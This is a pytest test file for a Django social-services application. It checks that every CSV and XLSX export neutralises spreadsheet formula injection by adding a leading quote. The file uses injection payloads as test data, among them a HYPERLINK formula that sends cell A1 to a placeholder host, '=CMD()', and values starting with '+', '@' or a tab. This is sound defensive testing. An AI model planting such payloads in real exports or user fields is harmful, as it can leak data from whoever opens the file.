"""Formula injection: every CSV/XLSX export writes text that a spreadsheet would run as a formula (a surname such as
=HYPERLINK(...), an outside system's error text) as plain text, with a leading quote; numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from decimal import Decimal
from pathlib import Path
from types import SimpleNamespace

import pytest
from django.contrib.auth import get_user_model
from django.urls import reverse
from openpyxl import load_workbook

from cse.cartella.fasi import Prestazione, VoceNomenclatore
from cse.cittadino.services import cittadino_ensure
from cse.core.audit import log_access
from cse.core.exports import safe_cell
from cse.regionale.models import PrestazioneSiuss
from cse.siuss.models import Flusso
from interop.models import ChiamataInterop
from tests.support.factories import OperatoreFactory
from tests.support.places import regione

HYPERLINK = '=HYPERLINK("http://example.invalid/?x="&A1;"Dettagli")'
DANGEROUS = [HYPERLINK, "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", DANGEROUS)
def test_text_that_a_spreadsheet_would_evaluate_gets_a_leading_quote(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["Rossi", "D'Amico", "", "a=b", -5, 3, Decimal("-12.50"), -0.5, None, date(2026, 1, 2)]
)
def test_ordinary_text_and_numbers_are_left_alone(value):
    assert safe_cell(value) == value


def _rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode()), delimiter=";"))


def _xlsx_rows(response) -> list[list]:
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def _reader_named(user, *, first_name: str, last_name: str):
    get_user_model().objects.filter(pk=user.pk).update(first_name=first_name, last_name=last_name)
    user.refresh_from_db()
    return user


@pytest.mark.django_db
def test_access_log_csv_of_the_ente(comune, worker, person, client):
    responsabile = OperatoreFactory(ente=comune, ruolo="responsabile")
    reader = _reader_named(worker, first_name="@Anna", last_name=HYPERLINK)
    log_access(
        user=reader, assistito_id=person.pk, oggetto_tipo="assistito", oggetto_id=person.pk,
        ente_id=comune.pk, finalita="-verifica",
    )  # fmt: skip
    client.force_login(responsabile)
    rows = _rows(client.get(reverse("ente_accessi_csv", kwargs={"pk": comune.pk})))
    mine = [r for r in rows if r[2] == reader.username]
    assert mine and all(r[1] == "'" + f"@Anna {HYPERLINK}" for r in mine)
    assert "'-verifica" in [r[7] for r in mine]


@pytest.mark.django_db
def test_the_citizens_who_read_my_data_csv(comune, worker, person, client):
    reader = _reader_named(worker, first_name="=1+1", last_name="Rossi")
    log_access(
        user=reader, assistito_id=person.pk, oggetto_tipo="assistito", oggetto_id=person.pk,
        ente_id=comune.pk,
    )  # fmt: skip
    cittadino = cittadino_ensure(codice_fiscale=person.codice_fiscale, nome=person.nome, cognome=person.cognome)
    client.force_login(cittadino.user)
    rows = _rows(client.get(reverse("cittadino:chi_ha_consultato_csv")))
    names = [r[1] for r in rows[1:]]
    assert "'=1+1 Rossi" in names and "=1+1 Rossi" not in names


@pytest.mark.django_db
def test_external_calls_csv(comune, worker, client):
    responsabile = OperatoreFactory(ente=comune, ruolo="responsabile")
    caller = worker
    get_user_model().objects.filter(pk=caller.pk).update(username="+cmd")
    ChiamataInterop.objects.create(
        operatore=caller, ente=comune, e_service="anpr_C030", operazione="consulta",
        esito="errore", codice_errore="=CMD()", durata_ms=12,
    )  # fmt: skip
    client.force_login(responsabile)
    rows = _rows(client.get(reverse("ente_chiamate_csv", kwargs={"pk": comune.pk})))
    assert ("'+cmd", "'=CMD()", "12") in [(r[1], r[7], r[10]) for r in rows[1:]]


@pytest.mark.django_db
def test_siuss_transmissions_csv(comune, case, client):
    responsabile = OperatoreFactory(ente=comune, ruolo="responsabile")
    cartella = case
    prestazione = Prestazione.objects.create(
        cartella=cartella, voce=VoceNomenclatore.objects.get(codice="A1.04"), carattere=2,
        data_inizio=date(2026, 3, 10), quantita=1, unita="euro", importo=Decimal("300.00"), fonte="comunale",
        erogatore="Comune", ente_erogatore=comune,
    )  # fmt: skip
    Flusso.objects.create(
        ente=comune, tipo="PS_PSA_SINA", cartella=cartella, prestazione=prestazione,
        id_flusso="F284-2026-000001", xml=b"<Flusso/>", stato="errore", codice_esito="RICHIESTA_INVALIDA",
        descrizione_esito=HYPERLINK,
    )  # fmt: skip
    client.force_login(responsabile)
    rows = _rows(client.get(reverse("siuss:dashboard_csv", kwargs={"pk": comune.pk})))
    assert [r[8] for r in rows[1:] if r[0] == "F284-2026-000001"] == ["'" + HYPERLINK]


@pytest.mark.django_db(databases=["default", "regionale"])
@pytest.mark.parametrize("formato", ["csv", "xlsx"])
def test_regional_table_exports(db, client, formato):
    region = regione()
    analyst = OperatoreFactory(ente=region, ruolo="analista_regionale")
    PrestazioneSiuss.objects.using("regionale").create(
        anno=2026, ente="F284", prestazione_key="k1", soggetto="s1", sesso="F", fascia_eta="65+", codice="A1.04",
        carattere=2, area="=1+2", presa_in_carico=1, data_inizio=date(2026, 2, 1), quantita=1, unita="euro",
        importo=Decimal("10"), fonte="comunale",
    )  # fmt: skip
    client.force_login(analyst)
    params = {"anno": 2026, "righe": "area", "colonne": "trimestre", "formato": formato}
    response = client.get(reverse("regionale:cruscotto"), params)
    rows = _rows(response) if formato == "csv" else _xlsx_rows(response)
    assert rows[1][0] == "'=1+2"


@pytest.mark.django_db(databases=["default", "regionale"])
def test_regional_completeness_xlsx_keeps_numbers_numbers(db, client, monkeypatch):
    region = regione()
    analyst = OperatoreFactory(ente=region, ruolo="analista_regionale")
    row = {"ente": "@F284", "erogate": 5, "da_preparare": -1, "pronte": 0, "esposte": 2, "acquisite": 1}
    published = SimpleNamespace(
        completeness=lambda: [{**row, "in_errore": 1, "quota_acquisite": -20.5}], completeness_totals=dict
    )
    monkeypatch.setattr("cse.regionale.views.protected_pattern", lambda anno: published)
    client.force_login(analyst)
    response = client.get(reverse("regionale:completezza"), {"anno": 2026, "formato": "xlsx"})
    assert _xlsx_rows(response)[1] == ["'@F284", 5, -1, 0, 2, 1, 1, -20.5]
    response = client.get(reverse("regionale:completezza"), {"anno": 2026, "formato": "csv"})
    assert _rows(response)[1] == ["'@F284", "5", "-1", "0", "2", "1", "1", "-20.5"]


def test_no_export_writes_spreadsheets_around_the_safe_helpers():
    """A new export that builds its own csv.writer or openpyxl Workbook would skip the neutralisation."""
    import cse
    import interop

    helper = Path(cse.__file__).parent / "core" / "exports.py"
    raw_writer = re.compile(r"csv\.(writer|DictWriter)\(|Workbook\(")
    offenders = [
        str(path)
        for root in (Path(cse.__file__).parent, Path(interop.__file__).parent)
        for path in root.rglob("*.py")
        if path != helper and raw_writer.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
